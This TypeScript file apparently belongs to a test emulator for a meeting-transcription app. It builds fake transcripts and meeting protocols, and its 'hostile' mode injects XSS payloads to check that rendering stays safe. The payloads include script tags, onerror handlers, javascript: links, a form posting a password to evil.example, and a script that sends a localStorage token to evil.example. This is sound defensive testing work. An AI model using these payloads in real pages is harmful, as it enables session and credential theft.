/**
 * Deterministic processing results. Everything is derived from the recording (id, title,
 * duration) through a seeded PRNG, so the same recording always gets the same result. Size grows
 * with the duration: about one utterance per 2.5 s, topic blocks of about 100 utterances.
 */
import { isoDate } from './format';
import { Rng } from './prng';
import { diarize, type SpeakersTruth } from './speakers';
import type { Language } from './state';

export type TimeUnit = 's' | 'ms';

export interface DialogBlock {
  header: string;
  starts: number[];
  ends: number[];
  speakers: string[];
  texts: string[];
}

export interface ResultBody {
  language: Language;
  protocol: string;
  dialog: DialogBlock[];
  speakers_map: Record<string, string>;
  speakers_timeline: Record<string, [number, number][]>;
}

export interface ResultSource {
  id: number;
  title: string;
  duration: number;
  createdAtUs: number;
  language: Language | null;
  flavor: 'normal' | 'hostile';
  /**
   * Who spoke when, if a test gave it: the result's voices are then a diarization of it with a
   * real one's errors (emulator/speakers.ts), deterministic by `seed`, every voice `SPEAKER_<nn>`.
   */
  speakers?: { truth: SpeakersTruth; seed: number };
}

const MAX_UTTERANCES = 6000;
const SECONDS_PER_UTTERANCE = 2.5;
const UTTERANCES_PER_BLOCK = 100;

// ---------------------------------------------------------------------------------------------
// Vocabulary

const NAMES: Record<Language, string[]> = {
  en: [
    'Anna Petrova',
    'Mark Johnson',
    'Priya Sharma',
    'Lucas Martin',
    'Chen Wei',
    'Olga Ivanova',
    'Tom Becker',
  ],
  ru: ['Анна Петрова', 'Игорь Смирнов', 'Мария Кузнецова', 'Дмитрий Орлов', 'Елена Соколова', 'Павел Волков'],
};

const TOPICS: Record<Language, string[]> = {
  en: [
    'Opening and agenda',
    'Status of the current sprint',
    'Customer feedback',
    'Release plan',
    'Budget and hiring',
    'Risks and blockers',
    'Infrastructure costs',
    'Marketing launch',
    'Quality and incidents',
    'Roadmap for next quarter',
    'Partner integrations',
    'Security review',
    'Mobile app',
    'Analytics and metrics',
    'Support backlog',
    'Pricing changes',
    'Team process',
    'Documentation',
    'Open questions',
    'Wrap-up and next steps',
  ],
  ru: [
    'Открытие и повестка',
    'Статус текущего спринта',
    'Обратная связь клиентов',
    'План релиза',
    'Бюджет и найм',
    'Риски и блокеры',
    'Расходы на инфраструктуру',
    'Маркетинговый запуск',
    'Качество и инциденты',
    'Планы на квартал',
    'Интеграции с партнёрами',
    'Проверка безопасности',
    'Мобильное приложение',
    'Аналитика и метрики',
    'Очередь поддержки',
    'Изменение цен',
    'Процессы команды',
    'Документация',
    'Открытые вопросы',
    'Итоги и следующие шаги',
  ],
};

const SENTENCES: Record<Language, string[]> = {
  en: [
    'Let us start with the numbers from last week.',
    'I think we should move this to the next sprint.',
    'The customer asked for an export to PDF.',
    'We still have two open bugs in the payment flow.',
    'Can you share the dashboard after the call?',
    'That sounds reasonable to me.',
    'The deadline is the end of the month.',
    'We need a decision on the vendor by Friday.',
    'I will prepare a short summary for the board.',
    'Latency went down by thirty percent after the fix.',
    'Let us not overcomplicate the first version.',
    'Who owns the migration plan?',
    'I can take that one.',
    'We should ask legal before we publish it.',
    'Agreed.',
    'The new onboarding increased activation.',
    'Please add it to the tracker.',
    'Any objections?',
    'Marketing wants the landing page next week.',
    'We are on track for the release.',
  ],
  ru: [
    'Давайте начнём с цифр за прошлую неделю.',
    'Думаю, это стоит перенести в следующий спринт.',
    'Клиент попросил выгрузку в PDF.',
    'В платёжном сценарии ещё две открытые ошибки.',
    'Сможешь прислать дашборд после созвона?',
    'Звучит разумно.',
    'Дедлайн — конец месяца.',
    'Решение по подрядчику нужно до пятницы.',
    'Я подготовлю короткую сводку для совета директоров.',
    'После исправления задержка снизилась на тридцать процентов.',
    'Не будем усложнять первую версию.',
    'Кто отвечает за план миграции?',
    'Я возьму это на себя.',
    'Перед публикацией надо согласовать с юристами.',
    'Согласен.',
    'Новый онбординг увеличил активацию.',
    'Добавь, пожалуйста, в трекер.',
    'Есть возражения?',
    'Маркетинг хочет лендинг на следующей неделе.',
    'Мы укладываемся в сроки релиза.',
  ],
};

/** Payloads for the hostile recording: markup, script URLs, right-to-left text, emoji, long lines. */
const HOSTILE_SNIPPETS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert("dialog")</script>',
  '<iframe src="javascript:alert(2)" width="800" height="600"></iframe>',
  '<svg onload=alert(3)>',
  '"><script>alert(4)</script>',
  "'; alert(5); //",
  '<a href="javascript:alert(6)">click me</a>',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example/steal"><input name=password></form>',
  '<div style="position:fixed;inset:0;background:red;z-index:99999">overlay</div>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'مرحبا بكم في الاجتماع الأسبوعي، سنناقش خطة الربع القادم.',
  'שלום לכולם, נתחיל בסקירת המשימות הפתוחות.',
  '\u202Eتم تأكيد القرار — mixed: שלום world مرحبا 123',
  '🎉🎉🎉 launch! 👩‍💻👨‍👩‍👧‍👦🏳️‍🌈🇷🇺🇺🇸',
  'Z̵̡̢̛͍a̷̧l̶͎g̸̰o̴̱ text \u200Bzero\u200Bwidth\u200B',
  `https://example.com/${'very-long-path-segment-'.repeat(120)}`,
  'Supercalifragilisticexpialidocious'.repeat(90),
];

const HOSTILE_NAMES = [
  '<img src=x onerror=alert("speaker")>',
  'محمد عبد الله',
  'SPEAKER_02',
  '"><svg onload=alert(1)>',
  `${'W'.repeat(400)} 🎤`,
];

// ---------------------------------------------------------------------------------------------

const pad = (n: number) => String(n).padStart(2, '0');

function clock(seconds: number): string {
  const s = Math.floor(seconds);
  const h = Math.floor(s / 3600);
  return h > 0
    ? `${h}:${pad(Math.floor((s % 3600) / 60))}:${pad(s % 60)}`
    : `${pad(Math.floor(s / 60))}:${pad(s % 60)}`;
}

function humanDuration(seconds: number, language: Language): string {
  const h = Math.floor(seconds / 3600);
  const m = Math.round((seconds % 3600) / 60);
  if (language === 'ru') return h > 0 ? `${h} ч ${m} мин` : `${Math.max(1, m)} мин`;
  return h > 0 ? `${h} h ${m} min` : `${Math.max(1, m)} min`;
}

function stripExtension(title: string): string {
  return title.replace(/\.[A-Za-z0-9]{2,4}$/, '');
}

function resultLanguage(source: Pick<ResultSource, 'id' | 'title' | 'language'>): Language {
  if (source.language) return source.language;
  if (/[А-Яа-яЁё]/.test(source.title)) return 'ru';
  return new Rng(`lang:${source.id}:${source.title}`).chance(0.2) ? 'ru' : 'en';
}

const TRUTH_UTTERANCE_SECONDS = 8;

/**
 * The utterances of a diarized truth: every turn of every voice, in order of start, cut into
 * pieces of at most 8 s; at most `MAX_UTTERANCES`.
 */
function plannedUtterances(truth: SpeakersTruth, seed: number, duration: number) {
  const voices = diarize(truth, seed, duration);
  const utterances: Array<{ start: number; end: number; voice: number }> = [];
  voices.forEach((voice, index) => {
    for (const [start, end] of voice.turns) {
      for (
        let from = start;
        from < end && utterances.length < MAX_UTTERANCES * 2;
        from += TRUTH_UTTERANCE_SECONDS
      ) {
        utterances.push({ start: from, end: Math.min(end, from + TRUTH_UTTERANCE_SECONDS), voice: index });
      }
    }
  });
  utterances.sort((a, b) => a.start - b.start || a.voice - b.voice);
  return { voices: Math.max(1, voices.length), utterances: utterances.slice(0, MAX_UTTERANCES) };
}

/** Generates the result of a finished processing run. Times use `unit` and never exceed the duration. */
export function generateResult(source: ResultSource, unit: TimeUnit): ResultBody {
  const rng = new Rng(`result:${source.id}:${source.title}:${source.duration}`);
  const language = resultLanguage(source);
  const hostile = source.flavor === 'hostile';
  const duration = Math.max(1, Math.round(source.duration));

  const factor = unit === 'ms' ? 1000 : 1;
  const planned = source.speakers
    ? plannedUtterances(source.speakers.truth, source.speakers.seed, duration)
    : null;

  // Speakers: a mix of names and SPEAKER_nn labels (all labels for a diarized truth).
  const speakerCount = planned ? planned.voices : duration < 60 ? rng.int(1, 2) : rng.int(2, 5);
  const names = [...NAMES[language]];
  const speakersMap: Record<string, string> = {};
  for (let i = 0; i < speakerCount; i++) {
    const labelled = speakerCount > 1 && (i === speakerCount - 1 || (i > 0 && rng.chance(0.3)));
    if (hostile) speakersMap[String(i)] = HOSTILE_NAMES[i % HOSTILE_NAMES.length] ?? `SPEAKER_${pad(i)}`;
    else if (planned || labelled || names.length === 0) speakersMap[String(i)] = `SPEAKER_${pad(i)}`;
    else speakersMap[String(i)] = names.splice(rng.int(0, names.length - 1), 1)[0] ?? `SPEAKER_${pad(i)}`;
  }

  // Utterances spread evenly over the recording, with a little jitter and pauses.
  const n = planned
    ? planned.utterances.length
    : Math.min(MAX_UTTERANCES, Math.max(1, Math.round(duration / SECONDS_PER_UTTERANCE)));
  const total = duration * factor;
  const slot = total / n;
  const starts: number[] = [];
  const ends: number[] = [];
  const speakers: number[] = [];
  const texts: string[] = [];
  let current = 0;
  for (let i = 0; i < n; i++) {
    const utterance = planned?.utterances[i];
    if (utterance) {
      starts.push(Math.min(total, Math.floor(utterance.start * factor)));
      ends.push(Math.min(total, Math.floor(utterance.end * factor)));
      speakers.push(utterance.voice);
    } else {
      const start = Math.min(total, Math.floor(i * slot + rng.float() * 0.15 * slot));
      const end = Math.max(start, Math.min(total, Math.floor((i + 1) * slot - rng.float() * 0.1 * slot)));
      starts.push(start);
      ends.push(end);
      if (i < speakerCount) current = i;
      else if (!rng.chance(0.3))
        current = (current + rng.int(1, Math.max(1, speakerCount - 1))) % speakerCount;
      speakers.push(current);
    }
    const sentences = rng.int(1, 3);
    const parts: string[] = [];
    for (let s = 0; s < sentences; s++) parts.push(rng.pick(SENTENCES[language]));
    if (hostile && i % 3 === 0)
      parts.splice(rng.int(0, parts.length), 0, HOSTILE_SNIPPETS[(i / 3) % HOSTILE_SNIPPETS.length] ?? '');
    texts.push(parts.join(' '));
  }

  // Topic blocks of about 100 utterances.
  const blockCount = n < 30 ? 1 : Math.max(2, Math.round(n / UTTERANCES_PER_BLOCK));
  const boundaries: number[] = [0];
  for (let b = 1; b < blockCount; b++) {
    const ideal = Math.round((b * n) / blockCount);
    const jitter = Math.round((rng.float() - 0.5) * 0.3 * (n / blockCount));
    const prev = boundaries[b - 1] ?? 0;
    boundaries.push(Math.min(n - (blockCount - b), Math.max(prev + 1, ideal + jitter)));
  }
  boundaries.push(n);
  const topics = TOPICS[language];
  const topicOffset = rng.int(0, topics.length - 1);
  const dialog: DialogBlock[] = [];
  for (let b = 0; b < blockCount; b++) {
    const from = boundaries[b] ?? 0;
    const to = boundaries[b + 1] ?? n;
    const round = Math.floor(b / topics.length);
    let header = topics[(b + topicOffset) % topics.length] ?? '';
    if (round > 0) header += language === 'ru' ? ` (часть ${round + 1})` : ` (part ${round + 1})`;
    if (hostile) header = `${HOSTILE_SNIPPETS[b % HOSTILE_SNIPPETS.length]} ${header}`;
    dialog.push({
      header,
      starts: starts.slice(from, to),
      ends: ends.slice(from, to),
      speakers: speakers.slice(from, to).map((s) => `{${s}}`),
      texts: texts.slice(from, to),
    });
  }

  // Timeline: consecutive utterances of a speaker merge into one interval.
  const timeline: Record<string, [number, number][]> = {};
  for (let s = 0; s < speakerCount; s++) timeline[`{${s}}`] = [];
  for (let i = 0; i < n; i++) {
    const list = timeline[`{${speakers[i]}}`];
    const start = starts[i] ?? 0;
    const end = ends[i] ?? start;
    const last = list?.[list.length - 1];
    // A diarized truth keeps the pauses between a voice's turns.
    if (last && speakers[i - 1] === speakers[i] && (!planned || start <= last[1]))
      last[1] = Math.max(last[1], end);
    else list?.push([start, end]);
  }

  const blockTimes = dialog.map((block) => {
    const first = block.starts[0] ?? 0;
    const last = block.ends[block.ends.length - 1] ?? first;
    return [first / factor, last / factor] as const;
  });
  const protocol = hostile
    ? hostileProtocol(source, speakersMap)
    : normalProtocol(source, language, speakersMap, dialog, blockTimes, rng);

  return { language, protocol, dialog, speakers_map: speakersMap, speakers_timeline: timeline };
}

function normalProtocol(
  source: ResultSource,
  language: Language,
  speakersMap: Record<string, string>,
  dialog: DialogBlock[],
  blockTimes: (readonly [number, number])[],
  rng: Rng,
): string {
  const ru = language === 'ru';
  const day = Math.floor(source.createdAtUs / 1000);
  const due = (days: number) => isoDate(day + days * 86_400_000);
  const people = Object.values(speakersMap);
  const owner = (i: number) => people[i % people.length] ?? 'SPEAKER_00';
  const sentences = SENTENCES[language];
  const summary = [rng.pick(sentences), rng.pick(sentences), rng.pick(sentences)].join(' ');
  const topics = dialog.slice(0, 12).map((block, i) => {
    const [from, to] = blockTimes[i] ?? [0, 0];
    return `### ${block.header} (${clock(from)}–${clock(to)})\n\n- ${rng.pick(sentences)}\n- ${rng.pick(sentences)}`;
  });
  const more =
    dialog.length > 12
      ? ru
        ? `\n\n…и ещё ${dialog.length - 12} тем.`
        : `\n\n…and ${dialog.length - 12} more topics.`
      : '';
  const t = ru
    ? {
        date: 'Дата',
        duration: 'Длительность',
        people: 'Участники',
        summary: 'Краткое содержание',
        decisions: 'Решения',
        actions: 'Задачи',
        task: 'Задача',
        who: 'Ответственный',
        when: 'Срок',
        topics: 'Темы',
        links: 'Ссылки',
        notes: 'Технические заметки',
        board: 'Доска проекта',
        docs: 'Документация',
        run: 'Перед релизом запустить',
        important: 'Важно',
        quote: 'Главное — не сорвать сроки релиза.',
      }
    : {
        date: 'Date',
        duration: 'Duration',
        people: 'Participants',
        summary: 'Summary',
        decisions: 'Decisions',
        actions: 'Action items',
        task: 'Task',
        who: 'Owner',
        when: 'Due',
        topics: 'Topics',
        links: 'Links',
        notes: 'Technical notes',
        board: 'Project board',
        docs: 'Documentation',
        run: 'Before the release run',
        important: 'Important',
        quote: 'The main thing is not to miss the release date.',
      };
  return [
    `# ${stripExtension(source.title)}`,
    '',
    `**${t.date}:** ${isoDate(day)} · **${t.duration}:** ${humanDuration(source.duration, language)} · **${t.people}:** ${people.length}`,
    '',
    `## ${t.summary}`,
    '',
    `${summary} *${t.important}:* **${rng.pick(sentences)}**`,
    '',
    `## ${t.people}`,
    '',
    ...people.map((name) => `- ${name}`),
    '',
    `## ${t.decisions}`,
    '',
    `1. ${rng.pick(sentences)}`,
    `2. ${rng.pick(sentences)}`,
    `3. ${rng.pick(sentences)}`,
    '',
    `## ${t.actions}`,
    '',
    `| # | ${t.task} | ${t.who} | ${t.when} |`,
    '| - | --- | --- | --- |',
    `| 1 | ${rng.pick(sentences)} | ${owner(0)} | ${due(3)} |`,
    `| 2 | ${rng.pick(sentences)} | ${owner(1)} | ${due(7)} |`,
    `| 3 | ${rng.pick(sentences)} | ${owner(2)} | ${due(14)} |`,
    '',
    `## ${t.topics}`,
    '',
    topics.join('\n\n') + more,
    '',
    `## ${t.links}`,
    '',
    `- [${t.board}](https://example.com/projects/${source.id}/board)`,
    `- [${t.docs}](https://docs.example.com/meetings/${source.id} "${t.docs}")`,
    '- <https://example.com/status>',
    '',
    `## ${t.notes}`,
    '',
    `${t.run} \`npm run build\` ${ru ? 'и' : 'and'} \`npm test\`.`,
    '',
    '```bash',
    'npm ci',
    'npm run build && npm test',
    '```',
    '',
    `> ${t.quote}`,
    '',
  ].join('\n');
}

function hostileProtocol(source: ResultSource, speakersMap: Record<string, string>): string {
  return [
    `# ${source.title} <img src=x onerror=alert("h1")>`,
    '',
    '<script>alert("protocol")</script>',
    '<script>fetch("https://evil.example/?t=" + localStorage.getItem("token"))</script>',
    '',
    '## Links that must not run',
    '',
    '- [Open the board](javascript:alert("link"))',
    '- [Encoded](JaVaScRiPt:alert(2))',
    '- [Entity](&#106;avascript:alert(3))',
    '- [Data URL](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '- [VBScript](vbscript:msgbox(1))',
    '- <javascript:alert(4)>',
    '- <a href="javascript:alert(5)">raw HTML link</a>',
    '- [Normal link](https://example.com/ok)',
    '',
    '## Embedded content',
    '',
    '<iframe src="https://evil.example/frame" width="1000" height="1000"></iframe>',
    '',
    '![tracking pixel](https://evil.example/pixel.gif?c=1)',
    '',
    '![broken](x" onerror="alert(6))',
    '',
    '<details open><summary>Click</summary><img src=x onerror=alert(7)></details>',
    '',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#f00">overlay</div>',
    '',
    '## Table',
    '',
    '| <img src=x onerror=alert(8)> | **Owner** |',
    '| --- | --- |',
    `| <script>alert(9)</script> | ${speakersMap['0'] ?? ''} |`,
    '| [x](javascript:alert(10)) | `<b>code</b>` |',
    '',
    '## Right-to-left',
    '',
    'مرحبا بكم في الاجتماع الأسبوعي. سنناقش خطة الربع القادم والميزانية.',
    '',
    'שלום לכולם, נתחיל בסקירת המשימות הפתוחות ואז נעבור לתקציב.',
    '',
    '\u202Eهذا نص معكوس\u202C and English mixed with עברית in one line.',
    '',
    '## Emoji',
    '',
    '🎉👩‍💻👨‍👩‍👧‍👦🏳️‍🌈🇷🇺🇺🇸 **launch** 🚀 _done_ ✅',
    '',
    '## Long lines',
    '',
    'Supercalifragilisticexpialidocious'.repeat(90),
    '',
    `https://example.com/${'very-long-path-segment-'.repeat(120)}`,
    '',
    '```html',
    '<script>alert("inside a code block is fine")</script>',
    `${'x'.repeat(2000)}`,
    '```',
    '',
    '1. <b>bold tag</b> <u>underline</u> <marquee>marquee</marquee>',
    '2. `inline <script>` code',
    '3. *emphasis* and **strong**',
    '',
  ].join('\n');
}
